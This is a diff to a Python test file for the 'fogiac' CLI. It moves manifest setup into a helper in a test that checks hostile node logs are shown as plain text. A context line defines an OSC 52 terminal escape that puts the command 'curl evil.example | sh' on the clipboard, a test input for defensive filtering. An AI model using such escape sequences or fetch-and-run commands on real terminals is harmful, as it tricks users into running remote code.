@@ -21,6 +21,7 @@ from typer.testing import CliRunner
 from fogiac.cli import app
 from fogiac.termtext import TerminalFilter, clean
 from tests.provision.conftest import ros_skip_reason
+from tests.support.nodes import script_node_manifest
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh" to the clipboard
 HOSTILE = {
@@ -64,12 +65,7 @@ exec sleep 600
 @pytest.mark.ros
 @pytest.mark.skipif(bool(ros_skip_reason()), reason=ros_skip_reason() or "")
 def test_logs_and_follow_show_a_hostile_node_as_plain_text(tmp_path: Path, _state_dir: Path) -> None:
-    script = tmp_path / "hostile.sh"
-    script.write_text(SCRIPT)
-    script.chmod(0o755)
-    manifest = tmp_path / "fogiac.yaml"
-    manifest.write_text(f"name: noisy\ncloud: {{provider: local}}\nnodes:\n"
-                        f"  - {{name: talker, machine: t3.small, command: ['{script}']}}\n")
+    manifest = script_node_manifest(tmp_path, "noisy", SCRIPT)
     runner = CliRunner()
     try:
         up = runner.invoke(app, ["provision", str(manifest), "--health-timeout", "40"])
